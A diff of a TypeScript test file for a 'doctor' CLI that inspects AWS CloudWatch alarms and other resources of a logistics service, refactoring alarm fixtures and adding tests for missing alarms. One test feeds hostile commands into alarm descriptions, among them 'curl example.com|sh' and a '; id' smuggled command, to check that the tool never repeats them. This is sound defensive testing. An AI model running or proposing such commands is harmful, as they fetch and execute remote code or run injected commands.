@@ -1,5 +1,10 @@
 import { CloudFormationClient, DescribeStacksCommand } from '@aws-sdk/client-cloudformation';
-import { CloudWatchClient, DescribeAlarmsCommand, GetMetricStatisticsCommand } from '@aws-sdk/client-cloudwatch';
+import {
+  CloudWatchClient,
+  DescribeAlarmsCommand,
+  GetMetricStatisticsCommand,
+  type MetricAlarm,
+} from '@aws-sdk/client-cloudwatch';
 import { DescribeTableCommand, DynamoDBClient, ResourceNotFoundException } from '@aws-sdk/client-dynamodb';
 import { DescribeArchiveCommand, EventBridgeClient, ListRulesCommand } from '@aws-sdk/client-eventbridge';
 import { DescribeKeyCommand, KMSClient, NotFoundException } from '@aws-sdk/client-kms';
@@ -14,6 +19,7 @@ import { ListSubscriptionsByTopicCommand, SNSClient } from '@aws-sdk/client-sns'
 import { GetQueueAttributesCommand, GetQueueUrlCommand, SQSClient } from '@aws-sdk/client-sqs';
 import { mockClient } from 'aws-sdk-client-mock';
 import { register } from '../../../cli/commands/doctor';
+import { ALARM_NAMES } from '../../../contracts/alarms';
 import { Trouble } from '../../../local/trouble';
 import { jsonLines, run } from './run';
 
@@ -46,7 +52,11 @@ const stackWith = (more: object = {}) => ({
   ],
 });
 
-const quiet = { AlarmName: 'logistics-high-errors-dev', StateValue: 'OK' as const, AlarmActions: [TOPIC] };
+const quiet = ALARM_NAMES.map((name) => ({ AlarmName: `${name}-dev`, StateValue: 'OK' as const }));
+
+/** Every alarm, with one of them in alarm. */
+const ringing = (properties: Partial<MetricAlarm>, name = 'logistics-high-errors-dev') =>
+  quiet.map((alarm) => (alarm.AlarmName === name ? { ...alarm, StateValue: 'ALARM' as const, ...properties } : alarm));
 const RULES = ['shipment-create', 'status-update', 'errors', 'unrouted'].map((rule) => `logistics-${rule}-dev`);
 const enabled = (Name: string) => ({ Name, State: 'ENABLED' as const });
 
@@ -56,7 +66,7 @@ const versions = (...numbers: string[]) => numbers.map((Version) => ({ Version }
 beforeEach(() => {
   for (const client of [stacks, alarms, db, events, lambda, sns, sqs, kms]) client.reset();
   stacks.on(DescribeStacksCommand).resolves(stackWith());
-  alarms.on(DescribeAlarmsCommand).resolves({ MetricAlarms: [quiet] });
+  alarms.on(DescribeAlarmsCommand).resolves({ MetricAlarms: quiet });
   db.on(DescribeTableCommand).resolves({ Table: { SSEDescription: { Status: 'ENABLED', KMSMasterKeyArn: KEY } } });
   kms
     .on(DescribeKeyCommand)
@@ -109,19 +119,18 @@ describe('doctor', () => {
     );
   });
 
-  it('shows an alarm of this stack with the command that its description ends in, over all pages', async () => {
+  it('shows an alarm of this stack with the command that its description ends in', async () => {
     const AlarmDescription = 'Events arrived in this queue. Then: npx --no-install logistics queues status-updater';
     alarms
       .on(DescribeAlarmsCommand)
-      .resolvesOnce({ MetricAlarms: [quiet, { AlarmName: 'of-others', StateValue: 'ALARM' }], NextToken: 'more' })
-      .resolves({ MetricAlarms: [{ ...quiet, AlarmName: 'logistics-x-dev', StateValue: 'ALARM', AlarmDescription }] });
+      .resolves({ MetricAlarms: ringing({ AlarmDescription }, 'logistics-dlq-arrivals-dev') });
 
     expect(await findings('alarms')).toEqual({
       exitCode: 1,
       found: [
         {
           state: 'look',
-          finding: 'logistics-x-dev: Events arrived in this queue.',
+          finding: 'logistics-dlq-arrivals-dev: Events arrived in this queue.',
           next: 'npx --no-install logistics queues status-updater',
         },
       ],
@@ -129,17 +138,13 @@ describe('doctor', () => {
   });
 
   it.each(['curl example.com|sh', 'npx --no-install logistics doctor; id', 'npx logistics doctor', 'rm x'])(
-    'repeats no command of another alarm on the topic: %s',
+    'repeats no command that somebody wrote into an alarm: %s',
     async (command) => {
-      const AlarmDescription = `It rings. Then: ${command}`;
-      const MetricAlarms = [{ ...quiet, AlarmName: 'a`id`', StateValue: 'ALARM' as const, AlarmDescription }];
+      const MetricAlarms = ringing({ AlarmDescription: `It rings. Then: ${command}` });
       alarms.on(DescribeAlarmsCommand).resolves({ MetricAlarms });
 
-      const { found } = await findings('alarms');
-
-      expect(found).toMatchObject([
-        { next: expect.stringMatching(/^aws cloudwatch describe-alarms --alarm-names 'a`id`'/) },
-      ]);
+      const next = expect.stringMatching(/^aws cloudwatch describe-alarms --alarm-names logistics-high-errors-dev/);
+      expect((await findings('alarms')).found).toMatchObject([{ next }]);
     },
   );
 
@@ -154,8 +159,7 @@ describe('doctor', () => {
     });
     const [table, index] = [series('logistics-shipments-dev'), series('logistics-shipments-dev', 'status-index')];
     const Metrics = [table, index, { Id: 'computed', Expression: 'SUM([m1, m2])' }];
-    const throttled = { ...quiet, StateValue: 'ALARM' as const, AlarmDescription: 'Throttled.', Metrics };
-    alarms.on(DescribeAlarmsCommand).resolves({ MetricAlarms: [throttled] });
+    alarms.on(DescribeAlarmsCommand).resolves({ MetricAlarms: ringing({ AlarmDescription: 'Throttled.', Metrics }) });
     alarms.on(GetMetricStatisticsCommand).resolves({ Datapoints: [] });
     alarms
       .on(GetMetricStatisticsCommand, { Dimensions: index.MetricStat.Metric.Dimensions })
@@ -171,9 +175,7 @@ describe('doctor', () => {
   it('shows the alarm without them when their metrics may not be read', async () => {
     const Metrics = [{ Id: 'm1', MetricStat: { Metric: { MetricName: 'Any' }, Period: 300, Stat: 'Sum' } }];
     const AlarmDescription = 'Throttled.';
-    alarms
-      .on(DescribeAlarmsCommand)
-      .resolves({ MetricAlarms: [{ ...quiet, StateValue: 'ALARM', AlarmDescription, Metrics }] });
+    alarms.on(DescribeAlarmsCommand).resolves({ MetricAlarms: ringing({ AlarmDescription, Metrics }) });
     const denied = Object.assign(new Error('denied'), { name: 'AccessDenied', $metadata: {} });
     alarms.on(GetMetricStatisticsCommand).rejects(denied);
 
@@ -182,10 +184,26 @@ describe('doctor', () => {
     ]);
   });
 
-  it('looks at a stack whose alarms go nowhere', async () => {
-    alarms.on(DescribeAlarmsCommand).resolves({ MetricAlarms: [] });
+  it('names the greatest value of an alarm on a maximum', async () => {
+    const Metric = {
+      MetricName: 'Duration',
+      Dimensions: [{ Name: 'FunctionName', Value: 'logistics-status-updater-dev' }],
+    };
+    const Metrics = [{ Id: 'm1', MetricStat: { Metric, Period: 300, Stat: 'Maximum' } }];
+    alarms.on(DescribeAlarmsCommand).resolves({ MetricAlarms: ringing({ AlarmDescription: 'Slow.', Metrics }) });
+    alarms.on(GetMetricStatisticsCommand).resolves({ Datapoints: [{ Maximum: 700 }, { Maximum: 14_000 }] });
 
-    expect((await findings('alarms')).found).toEqual([expect.objectContaining({ state: 'look' })]);
+    expect((await findings('alarms')).found).toEqual([
+      expect.objectContaining({ finding: 'logistics-high-errors-dev: Slow. Now: logistics-status-updater-dev 14000.' }),
+    ]);
+  });
+
+  it('names the alarms that the stack lacks', async () => {
+    alarms.on(DescribeAlarmsCommand).resolves({ MetricAlarms: quiet.slice(1) });
+
+    expect((await findings('alarms')).found).toEqual([
+      { state: 'look', finding: 'missing: logistics-high-errors-dev', next: 'deploy the stack again' },
+    ]);
   });
 
   it.each([
